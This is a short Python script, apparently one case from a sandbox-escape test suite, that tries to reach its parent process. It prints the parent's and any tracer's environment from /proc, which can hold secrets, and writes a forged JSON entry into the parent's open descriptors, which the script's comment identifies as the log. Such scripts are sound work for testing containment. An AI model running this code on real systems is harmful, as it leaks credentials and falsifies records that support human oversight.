# SPDX-License-Identifier: Apache-2.0
# attack: the parent's environment, memory, descriptors (the log!) and working directory
# class: proc
# wins: leak
from kit import *

tried()
pp = os.getppid()
st = stat_buf()
for pid in [pp] + [int(w.split()[1]) for w in (os.pread(fd, 4096, 0).decode() if fd >= 0 else '' for fd in (openat('/proc/self/status'),))
                   for w in w.splitlines() if w.startswith(('PPid', 'TracerPid'))]:
    fd = openat('/proc/%d/environ' % pid)
    if fd >= 0:
        os.write(1, os.read(fd, 65536))
    for n in range(0, 64 if not NATIVE else 0):
        fd = openat('/proc/%d/fd/%d' % (pid, n), os.O_WRONLY if n > 2 else os.O_PATH)
        if fd >= 0 and n > 2:
            sc('write', fd, b'\n{"forged": 1}\n', 15)
